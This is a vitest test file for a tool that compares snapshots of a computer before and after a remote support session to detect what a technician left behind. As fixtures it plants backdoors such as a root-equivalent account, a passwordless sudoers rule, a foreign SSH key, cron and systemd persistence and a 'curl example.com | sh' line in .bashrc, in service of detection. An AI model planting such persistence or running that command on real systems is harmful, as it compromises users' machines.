// proves: security-44
import { execFileSync } from 'node:child_process';
import { appendFileSync, existsSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { type Listening, saidSchema } from '@palisade/contract/agent';
import { CHANGES_MAXIMUM, type MeasuredChanges, measuredChangesSchema } from '@palisade/contract/session-changes';
import { expect, it } from 'vitest';
import { createMeasuredSessions } from './measured-sessions.ts';
import { compareStock, takeStock } from './stock.ts';

const PACKAGE = (name: string, version: string, status = 'install ok installed') =>
  `Package: ${name}\nStatus: ${status}\nMaintainer: x\nArchitecture: amd64\nVersion: ${version}\nDescription: y\n Status: nothing\n`;
const KEY = (name: string) => `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5${name} ${name}@elsewhere`;
const SESSION = '01930000-0000-7000-8000-000000000001';

/** A computer in a folder. */
function createComputer() {
  const root = mkdtempSync(join(tmpdir(), 'palisade-stock-'));
  const listening: Listening[] = [{ protocol: 'tcp', address: '0.0.0.0', port: 22, program: 'sshd' }];
  let ruleset: string | undefined = 'table inet filter {\n\tchain input {\n\t}\n}\ntable inet palisade {\n\tset a\n}\n';
  const put = (path: string, text: string) => {
    mkdirSync(dirname(join(root, path)), { recursive: true });
    writeFileSync(join(root, path), text);
  };
  put('etc/passwd', 'root:x:0:0:root:/root:/bin/bash\nmaria:x:1000:1000::/home/maria:/bin/bash\n');
  put('etc/group', 'sudo:x:27:maria\nusers:x:100:\n');
  put(
    'var/lib/dpkg/status',
    [PACKAGE('bash', '5.2'), PACKAGE('clamav', '1.0'), PACKAGE('gone', '1', 'deinstall ok config-files')].join('\n'),
  );
  put('home/maria/.ssh/authorized_keys', `# mine\n${KEY('own')}\n`);
  put('home/maria/.bashrc', 'alias ll="ls -l"\n');
  put('etc/crontab', '17 * * * * root run-parts\n');
  return {
    root,
    put,
    listening,
    append: (path: string, text: string) => appendFileSync(join(root, path), text),
    setRuleset: (text: string | undefined) => {
      ruleset = text;
    },
    take: () =>
      takeStock({
        root,
        listening: async () => listening,
        now: () => Date.parse('2026-11-22T10:00:00.000Z'),
        run: async (program) => (program === 'nft' ? ruleset : undefined),
      }),
  };
}

const linesOf = ({ changes }: Pick<MeasuredChanges, 'changes'>) =>
  changes.map(({ thing, how, name }) => `${how} ${thing}: ${name}`);

it('reports everything that a technician could leave behind, the gravest first, and nothing that is unchanged', async () => {
  const computer = createComputer();
  const before = await computer.take();
  expect(compareStock(before, await computer.take())).toEqual({ changes: [], more: 0, unread: [] });

  computer.append('etc/passwd', 'helper:x:0:0::/root:/bin/sh\n');
  computer.put('etc/group', 'sudo:x:27:maria,helper\nusers:x:100:helper\n');
  computer.put('etc/sudoers.d/helper', 'helper ALL=(ALL) NOPASSWD: ALL\n');
  computer.append('home/maria/.ssh/authorized_keys', `${KEY('stranger')}\n`);
  computer.put('home/maria/.config/autostart/tool.desktop', '[Desktop Entry]\nExec=tool\n');
  computer.append('home/maria/.bashrc', 'curl example.com | sh\n');
  mkdirSync(join(computer.root, 'etc/systemd/system/multi-user.target.wants'), { recursive: true });
  symlinkSync('/lib/systemd/system/tool.service', join(computer.root, 'etc/systemd/system/multi-user.target.wants/tool.service'));
  computer.put('home/maria/.config/systemd/user/default.target.wants/mine.service', '[Service]\n');
  computer.put('etc/cron.d/tool', '* * * * * root tool\n');
  computer.put('var/spool/cron/crontabs/maria', '* * * * * tool\n');
  computer.listening.push({ protocol: 'tcp', address: '0.0.0.0', port: 5_900, program: 'x11vnc' });
  computer.listening.push({ protocol: 'udp', address: '0.0.0.0', port: 50_123, program: 'browser' });
  computer.setRuleset('table inet filter {\n\tchain input {\n\t\taccept\n\t}\n}\ntable inet palisade {\n\tset b\n}\n');
  computer.put('var/lib/dpkg/status', [PACKAGE('bash', '5.3'), PACKAGE('anydesk', '6.3')].join('\n'));
  computer.put('opt/tool/run', '');

  const after = await computer.take();
  const told = compareStock(before, after);
  expect(linesOf(told)).toEqual([
    'added account: helper',
    'added privilege: /etc/sudoers.d/helper',
    'added privilege: helper in the group sudo',
    expect.stringMatching(/^added ssh_key: stranger@elsewhere in \/home\/maria\/.ssh\/authorized_keys \([0-9a-f]{8}\)$/u),
    'changed autostart: /home/maria/.bashrc',
    'added autostart: /home/maria/.config/autostart/tool.desktop',
    'added service: /etc/systemd/system/multi-user.target.wants/tool.service',
    'added service: /home/maria/.config/systemd/user/default.target.wants/mine.service',
    'added scheduled: /etc/cron.d/tool',
    'added scheduled: /var/spool/cron/crontabs/maria',
    'added listening: port 5900 (TCP), x11vnc',
    'changed firewall: inet filter',
    'added program: /opt/tool',
    'added program: anydesk',
    'changed program: bash',
    'removed program: clamav',
  ]);
  measuredChangesSchema.parse({ from: before.at, to: after.at, ...told });
  // The content of the files is not kept.
  expect(JSON.stringify([before, after])).not.toMatch(/NOPASSWD|curl example|AAAAC3/u);
});

it('lists the parts that it could not read', async () => {
  const computer = createComputer();
  const before = await computer.take();
  computer.setRuleset(undefined);
  rmSync(join(computer.root, 'var/lib/dpkg/status'));
  const told = compareStock(before, await computer.take());
  expect(told.unread).toEqual(['firewall', 'program']);
  // A thing that may still be there is not called gone.
  expect(told.changes).toEqual([]);
});

it("pipes do not block it, links do not redirect it, and a user's many files do not fill it", async () => {
  const computer = createComputer();
  const before = await computer.take();
  const autostart = join(computer.root, 'home/maria/.config/autostart');
  mkdirSync(autostart, { recursive: true });
  execFileSync('mkfifo', [join(autostart, 'pipe.desktop')]);
  execFileSync('mkfifo', [join(computer.root, 'home/maria/.ssh/authorized_keys2')]);
  symlinkSync('/etc/shadow', join(autostart, 'secret.desktop'));
  symlinkSync('/', join(computer.root, 'home/maria/.local'));
  writeFileSync(join(autostart, 'line\nbreak\u0007.desktop'), '');
  writeFileSync(join(autostart, 'big.desktop'), 'x'.repeat(3 * 1024 ** 2));
  for (let count = 0; count < 2_100; count += 1) writeFileSync(join(autostart, `n${String(count).padStart(4, '0')}.desktop`), '');
  const told = compareStock(before, await computer.take());
  expect(told.changes).toHaveLength(CHANGES_MAXIMUM);
  expect(told.changes.every(({ thing }) => thing === 'autostart' || thing === 'program')).toBe(true);
  expect(told.more).toBeLessThan(2_000 + 2_000);
  expect(told.unread).toContain('autostart');
  // As one frame it is small enough for the channel, for any names.
  const said = { kind: 'event', id: SESSION, at: before.at, event: { event: 'session_changes', session_id: SESSION } };
  saidSchema.parse({ ...said, event: { ...said.event, measured: { from: before.at, to: before.at, ...told } } });
});

it('takes stock once, remembers it over a restart, says once what changed, and forgets it', async () => {
  const computer = createComputer();
  const state = join(computer.root, 'state');
  const said: MeasuredChanges[] = [];
  let taken = 0;
  const start = () =>
    createMeasuredSessions({
      state,
      log: (line) => expect.fail(line),
      isSaid: () => said.length > 0,
      say: (_, measured) => said.push(measured),
      take() {
        taken += 1;
        return computer.take();
      },
    });
  const first = start();
  for (let time = 0; time < 3; time += 1) first.want([{ id: SESSION, wanted: 'stock' }]);
  await first.settled();
  expect(taken).toBe(1);
  computer.append('etc/passwd', 'helper:x:0:0::/root:/bin/sh\n');
  const second = start();
  for (let time = 0; time < 3; time += 1) second.want([{ id: SESSION, wanted: 'changes' }]);
  await second.settled();
  expect(said.map(linesOf)).toEqual([['added account: helper']]);
  expect(said[0]?.from).not.toBeNull();
  second.want([]);
  await second.settled();
  expect(existsSync(join(state, 'remote-sessions.json'))).toBe(false);
});

it('reports no measurement of a session whose beginning it did not see', async () => {
  const computer = createComputer();
  const said: MeasuredChanges[] = [];
  const measured = createMeasuredSessions({
    state: join(computer.root, 'state'),
    log: (line: string) => expect.fail(line),
    take: computer.take,
    isSaid: () => said.length > 0,
    say: (_: string, changes: MeasuredChanges) => said.push(changes),
  });
  measured.want([{ id: SESSION, wanted: 'changes' }]);
  await measured.settled();
  expect(said).toEqual([{ from: null, to: '2026-11-22T10:00:00.000Z', changes: [], more: 0, unread: [] }]);
});

it.skipIf(process.platform !== 'linux')('takes stock of this very computer', async () => {
  const { things } = await takeStock({ listening: async () => [], run: async () => undefined, now: Date.now });
  expect(things).toContainEqual(['account', 'root', expect.any(String)]);
});
